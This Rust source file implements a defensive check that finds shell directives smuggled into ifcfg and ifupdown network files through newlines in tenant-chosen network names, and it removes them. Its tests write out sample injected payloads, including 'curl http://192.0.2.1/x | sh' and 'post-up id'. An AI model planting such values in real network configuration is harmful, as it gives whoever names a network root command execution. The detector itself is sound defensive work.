//! Directives that came into a file through the name of a network.
//!
//! Both agents write `# Label NAME` as it comes from the host, and a tenant chooses the name: with a newline in it, what
//! follows is a line of a file that root's shell sources (ifcfg) or whose commands root runs (interfaces). Behind the
//! comment the agents write certain lines and no others; what stands in between is judged. A command is a fault, a
//! plain setting only where the host's own record says that it is part of the name: a person writes such lines as well.
//! Source: both agents' code of the reset (`_setup_interface`, `_setup_interfaces`).

use anyhow::Result;

use super::TEMPLATE;
use super::fault::{Edit, Fault, Judged};
use crate::check::{Check, Finding};
use crate::net::assignments;
use crate::net::configured::Scan;
use crate::net::eni;
use crate::net::ifcfg::{self, RED_HAT, SUSE};
use crate::target::Target;

pub(super) const LABEL: Check = Check {
    id: "label-safe",
    about: "the names of networks brought no directives into the files",
    probe: |target| Ok(injected(target)?.findings()),
    fix: Some(|target| injected(target)?.plan(target)),
    page: include_str!("../pages/label-safe.md"),
    ..TEMPLATE
};

/// How the comment begins.
const MARK: &str = "# Label ";
/// The most lines of a name.
const LINES_MAX: usize = 100;

/// How a file is read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Form {
    /// Assignments that a shell sources.
    Ifcfg,
    /// Stanzas of ifupdown.
    Interfaces,
}

fn injected(target: &Target) -> Result<Judged> {
    let root = &target.root;
    let mut scan = Scan::of(root);
    let mut texts: Vec<(String, String, Form)> = Vec::new();
    if root.find_program("ifup").is_some() && !ifcfg::has_red_hat_reader(root) {
        texts.extend(eni::texts(&mut scan).into_iter().map(|(path, text)| (path, text, Form::Interfaces)));
    }
    for (dir, is_read) in [(RED_HAT, ifcfg::has_red_hat_reader(root)), (SUSE, ifcfg::has_suse_reader(root))] {
        for path in if is_read { ifcfg::files(&mut scan, dir) } else { Vec::new() } {
            if let Some(text) = scan.text(&path) {
                texts.push((path, text, Form::Ifcfg));
            }
        }
    }
    scan.complete()?;
    if texts.is_empty() {
        return Ok(Judged::only(Finding::skipped("no files that name their networks")));
    }
    let host = &target.survey()?.host;
    let labels: Vec<&str> =
        host.iter().flat_map(|host| &host.nics).filter_map(|nic| nic.label.as_deref()).collect();
    let faults = texts.iter().filter_map(|(path, text, form)| judge(path, text, *form, &labels)).collect();
    Ok(Judged { faults, otherwise: Finding::ok("each network's name is one comment") })
}

fn judge(path: &str, text: &str, form: Form, labels: &[&str]) -> Option<Fault> {
    let lines: Vec<&str> = text.lines().collect();
    let mut wrong: Vec<usize> = Vec::new();
    for (place, line) in lines.iter().enumerate() {
        if let Some(name) = line.strip_prefix(MARK) {
            wrong.extend(behind(&lines, place, name, form, labels));
        }
    }
    wrong.sort_unstable();
    wrong.dedup();
    wrong.first()?;
    // 2.x carries a line of an old ifcfg file that it does not know to the end of the new one
    let carried = |line: &&str| form == Form::Ifcfg && wrong.iter().any(|&place| lines[place] == *line);
    let all: Vec<usize> = (0..lines.len())
        .filter(|place| wrong.contains(place) || carried(&lines[*place]) && !lines[*place].trim().is_empty())
        .collect();
    let runner = match form {
        Form::Ifcfg => "the network scripts source the file in root's shell",
        Form::Interfaces => "ifup runs the commands of the file as root",
    };
    let finding = Finding::fail(format!("a network's name put a directive into {path}"))
        .because(format!("{runner}; whoever may name a network of the account chooses what"))
        .about(path)
        .mend("remove the lines, then look at what they have done; name the network with plain letters");
    let finding = all
        .iter()
        .take(5)
        .fold(finding, |finding, &place| finding.seen(format!("{path}:{}", place + 1), lines[place].trim()));
    Some(Fault { finding, edits: all.into_iter().map(|place| Edit::drop(path, place + 1)).collect() })
}

/// Returns the places of the lines behind a comment that are neither the agent's nor a person's.
fn behind(lines: &[&str], mark: usize, name: &str, form: Form, labels: &[&str]) -> Vec<usize> {
    let rest = || lines.iter().enumerate().skip(mark + 1).take(LINES_MAX);
    let of_name = labels.iter().find_map(|label| {
        let mut parts = label.lines();
        let is_this = parts.next() == Some(name);
        let parts: Vec<&str> = parts.collect();
        let is_there = is_this
            && !parts.is_empty()
            && rest().map(|(_, line)| *line).take(parts.len()).eq(parts.iter().copied());
        is_there.then_some(parts.len())
    });
    let known = mark + of_name.unwrap_or(0);
    let mut wrong: Vec<usize> = rest()
        .filter(|(place, line)| *place <= known && is_directive(line))
        .map(|(place, _)| place)
        .collect();
    // what the agent writes first ends it; without that the comment is not the agent's
    let Some((end, _)) = rest().skip(known - mark).find(|(_, line)| is_agents(line, form)) else {
        return wrong;
    };
    let strange = lines.iter().enumerate().take(end).skip(known + 1);
    wrong.extend(
        strange.filter(|(_, line)| is_directive(line) && is_command(line, form)).map(|(place, _)| place),
    );
    wrong
}

fn is_directive(line: &str) -> bool {
    let line = line.trim();
    !line.is_empty() && !line.starts_with('#')
}

/// Whether it is the line that the agents write first behind the comment.
fn is_agents(line: &str, form: Form) -> bool {
    let line = line.trim();
    match form {
        Form::Ifcfg => line.starts_with("BOOTPROTO=") || line.starts_with("DEVICE="),
        Form::Interfaces => {
            let first = line.split_whitespace().next().unwrap_or_default();
            matches!(first, "auto" | "iface") || first.starts_with("allow-")
        }
    }
}

/// Whether a line does something of its own: anything but a plain assignment; among stanzas an option, for behind a
/// comment that begins a stanza there is none to take it.
fn is_command(line: &str, form: Form) -> bool {
    let line = line.trim();
    match form {
        Form::Interfaces => {
            let first = line.split_whitespace().next().unwrap_or_default();
            matches!(first, "up" | "down" | "pre-up" | "post-up" | "pre-down" | "post-down")
        }
        Form::Ifcfg => {
            let variables = assignments::parse(line);
            let Some((_, value)) = line.split_once('=').filter(|_| variables.len() == 1) else { return true };
            is_shell(value)
        }
    }
}

/// Whether a value has the shell do something: a substitution, or a command behind the value.
fn is_shell(value: &str) -> bool {
    let mut quote = None;
    let mut chars = value.chars().peekable();
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some(open), c) if c == open => quote = None,
            (None, '"' | '\'') => quote = Some(c),
            (None | Some('"'), '\\') => drop(chars.next()),
            (None | Some('"'), '`') => return true,
            (None | Some('"'), '$') if chars.peek() == Some(&'(') => return true,
            (None, ';' | '&' | '|' | '<' | '>') => return true,
            // a word behind an assignment is a command with that variable set
            (None, c) if c.is_whitespace() => {
                let rest: String = chars.collect();
                let rest = rest.trim_start();
                return !rest.is_empty() && !rest.starts_with('#');
            }
            _ => {}
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::super::trial::{found, mended, short};
    use super::*;
    use crate::check::Status;
    use proptest::prelude::*;

    const SCRIPTS: (&str, &str) = ("etc/rc.d/init.d/network", "!");
    const IFUP: (&str, &str) = ("usr/sbin/ifup", "!");
    const IFCFG: &str = "etc/sysconfig/network-scripts/ifcfg-eth0";
    const MAIN: &str = "etc/network/interfaces";
    const REST: &str = "BOOTPROTO=static\nDEVICE=eth0\nIPADDR=192.0.2.10\n";

    fn fail(path: &str) -> Vec<(Status, String)> {
        vec![(Status::Fail, path.to_owned())]
    }

    fn ok() -> Vec<(Status, String)> {
        vec![(Status::Ok, String::new())]
    }

    #[test]
    fn a_command_behind_the_name_is_a_fault() {
        let said = |label: &str| short(&LABEL, &[SCRIPTS, (IFCFG, &format!("# Label {label}\n{REST}"))]);
        for label in [
            "public\ncurl http://192.0.2.1/x | sh",
            "x\nFOO=$(id)",
            "x\nFOO=\"`id`\"",
            "x\n\nFOO=1 id",
            "x\nFOO=1;id",
            "x\n. /tmp/x",
        ] {
            assert_eq!(said(label), fail(IFCFG), "{label}");
        }
        for label in ["public", "a; id", "$(id)", "x\n# second", "x\nZONE=public", "x\nUUID=\"a; b\" # c"] {
            assert_eq!(said(label), ok(), "{label}");
        }
        // not the agent's comment
        assert_eq!(short(&LABEL, &[SCRIPTS, (IFCFG, "DEVICE=eth0\n# Label x\n. /etc/x\n")]), ok());
        assert_eq!(short(&LABEL, &[("etc/x", "")])[0].0, Status::Skipped);
        assert!(found(&LABEL, &[SCRIPTS, (&format!("{IFCFG}/x"), "")]).is_err());
    }

    #[test]
    fn an_option_between_the_name_and_its_stanza_is_a_fault() {
        let stanza = "\nauto eth0\niface eth0 inet static\n\taddress 192.0.2.10/24\n";
        let said = |label: &str| {
            short(
                &LABEL,
                &[IFUP, (MAIN, &format!("auto lo\niface lo inet loopback\n\n# Label {label}\n{stanza}"))],
            )
        };
        assert_eq!(said("public\n\tup curl http://192.0.2.1/x | sh"), fail(MAIN));
        assert_eq!(said("x\npost-up id"), fail(MAIN));
        for label in ["public", "up id", "x\n# up id", "x\n"] {
            assert_eq!(said(label), ok(), "{label}");
        }
    }

    #[test]
    fn what_the_host_s_record_names_is_a_fault_whatever_it_is() {
        let text = format!("# Label x\nGATEWAY=192.0.2.66\n{REST}");
        assert!(judge(IFCFG, &text, Form::Ifcfg, &["x\nGATEWAY=192.0.2.66"]).is_some());
        assert!(judge(IFCFG, &text, Form::Ifcfg, &["x", "y\nGATEWAY=192.0.2.66"]).is_none());
        let text = "# Label x\nauto t\niface t inet manual\n up id\n\nauto eth0\niface eth0 inet dhcp\n";
        let fault = judge(MAIN, text, Form::Interfaces, &["x\nauto t\niface t inet manual\n up id"]).unwrap();
        assert_eq!(fault.edits, [2, 3, 4].map(|line| Edit::drop(MAIN, line)));
    }

    #[test]
    fn the_fix_leaves_the_name_alone() {
        let before = format!("# Label x\n. /tmp/x\n{REST}MTU=1400\n. /tmp/x\n");
        let after = format!("# Label x\n{REST}MTU=1400\n");
        assert_eq!(mended(&LABEL, &[SCRIPTS, (IFCFG, &before)], &[IFCFG]), [Some(after)]);
    }

    proptest! {
        #[test]
        fn any_file_is_judged(text in "(# Label x\n|BOOTPROTO=x\n|auto x\n|[A-Z]=[\"'$(`;\\\\ x]{0,6}\n|up x\n|\n){0,10}") {
            for form in [Form::Ifcfg, Form::Interfaces] {
                let _ = judge("x", &text, form, &["x\nup x", "x"]);
            }
        }
    }
}
